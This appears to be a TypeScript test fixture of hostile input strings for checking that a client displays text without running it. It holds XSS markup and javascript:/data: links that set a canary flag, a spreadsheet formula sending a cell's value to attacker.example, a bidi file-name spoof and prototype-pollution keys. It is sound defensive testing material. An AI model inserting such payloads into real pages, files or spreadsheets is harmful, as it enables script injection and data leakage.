const LONG = 10_000

/**
 * Texts that a client must show without obeying them, one of each kind. Whatever tries to run sets `window.__xss`.
 * Their number is a prime, so that a few positions can be dealt to in many ways without one of them getting the same
 * text twice.
 */
export const hostileTexts = {
  markup:
    '<img src=x onerror="window.__xss=1"><script>window.__xss=1</script><svg onload="window.__xss=1"></svg>"\'><b>bold',
  scriptLink: 'javascript:window.__xss=1//https://one.example',
  dataLink: 'data:text/html,<script>window.__xss=1</script>',
  formula: '=HYPERLINK("https://attacker.example?"&A1,"click")',
  /** Marks that reverse the direction, and characters without a width. */
  bidi: 'invoice\u202Efdp.exe\u2066 un\u200B\u2060seen\uFEFF \u200Fend',
  /** One word without a position to break it. */
  longWord: 'Wide'.repeat(LONG / 4),
  longProse: 'much to read '.repeat(LONG / 13 + 1).slice(0, LONG),
  proto: '__proto__',
  member: 'constructor',
  method: 'toString',
  rightToLeft: 'عنوان البريد للشركة (2026) כתובת הדואר של החברה',
  astral: '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 𝕬𝖘𝖙𝖗𝖆𝖑 𠮷野家',
  /** Halves of characters, NUL, bells and escapes. */
  broken: 'a\uD800b\uDC00c\u0000d\u0007e\u001B[31mf\u007Fg\u0085h\r\ni',
} as const
export type HostileKind = keyof typeof hostileTexts

export const hostileKinds = Object.keys(hostileTexts) as readonly HostileKind[]
const texts: readonly string[] = Object.values(hostileTexts)

/** Any whole number as one of the texts. */
export const hostileText = (at: number): string => texts[at % texts.length] ?? ''

/** One text for each position from `first` on, `step` apart. */
export const dealt = (first: number, step = 1): ((index: number) => string) => {
  return (index) => hostileText(first + index * step)
}

/** An object with every text as a key, also those that members of every object have; the values are `shift` further. */
export const hostileObject = (shift: number): Record<string, unknown> =>
  Object.fromEntries(texts.map((text, at) => [text, hostileText(at + shift)]))
